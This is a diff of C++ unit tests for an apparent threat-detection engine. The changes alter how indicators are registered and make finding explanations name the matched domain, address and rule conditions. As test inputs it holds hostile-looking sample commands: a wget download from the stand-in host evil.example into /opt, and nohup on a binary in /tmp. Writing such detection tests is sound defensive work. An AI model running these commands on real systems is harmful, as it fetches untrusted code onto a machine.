@@ -31,8 +31,8 @@ class ReasonSink : public FindingSink {
 struct Reasons : Bench {
   Reasons() {
     add_own_rules(builder);
-    builder.add_domain("evil.example", Time::min(), Time::max(), "feed of the day", 70);
-    builder.add_address(*IpAddress::parse("203.0.113.66"), Time::min(), Time::max(), "list", 55);
+    builder.indicators().add(*read_value("evil.example"), {.source = "feed of the day", .confidence = 70});
+    builder.indicators().add(*read_value("203.0.113.66"), {.source = "list", .confidence = 55});
   }
   std::map<std::string, std::string> of(const std::vector<Observation>& observations, Duration silence = Duration()) {
     start(1, silence);
@@ -48,8 +48,8 @@ TEST(Reason, of_a_rule_names_it_and_the_tests_that_held) {
   const auto reasons = r.of({exec(r.texts, kStart, "nohup /tmp/k -q")});
   EXPECT_THAT(reasons.at("Detected suspicious use of the nohup command"),
               AllOf(HasSubstr("product rule 'nohup on a file in a temporary directory'"),
-                    HasSubstr("(b6bd28c6-cb69-431f-ad65-37efa6931f8c)"), HasSubstr(" because "),
-                    HasSubstr("CommandLine"), HasSubstr("/tmp/"), Not(HasSubstr("/dev/shm/"))));
+                    HasSubstr("(b6bd28c6-cb69-431f-ad65-37efa6931f8c)"), HasSubstr(" because nohup: Image like '*/nohup' and nohup: CommandLine matches "),
+                    HasSubstr(" and place: CommandLine "), HasSubstr("/tmp/"), Not(HasSubstr("/dev/shm/"))));
 }
 
 TEST(Reason, of_a_verdict_from_the_cache_is_the_same) {
@@ -82,11 +82,11 @@ TEST(Reason, of_an_indicator_names_its_source) {
   const auto reasons = r.of({flow(kStart, "203.0.113.66", 443), at(kStart, DnsRecord{r.texts.intern("a.evil.example"), false}),
                              exec(r.texts, kStart, "wget http://evil.example/x -O /opt/x")});
   EXPECT_EQ(reasons.at("Suspicious IP address communication"),
-            "product model 'listed address': listed by 'list' with confidence 55");
+            "product model 'listed address': '203.0.113.66' listed by 'list' with confidence 55");
   EXPECT_EQ(reasons.at("Malicious Domain Name Request"),
-            "product model 'listed domain': listed by 'feed of the day' with confidence 70");
+            "product model 'listed domain': 'evil.example' listed by 'feed of the day' with confidence 70");
   EXPECT_EQ(reasons.at("Detected file download from a malicious source"),
-            "product model 'listed download': listed by 'feed of the day' with confidence 70");
+            "product model 'listed download': 'evil.example' listed by 'feed of the day' with confidence 70");
 }
 
 TEST(Reason, of_a_model_has_its_value_and_its_limit) {
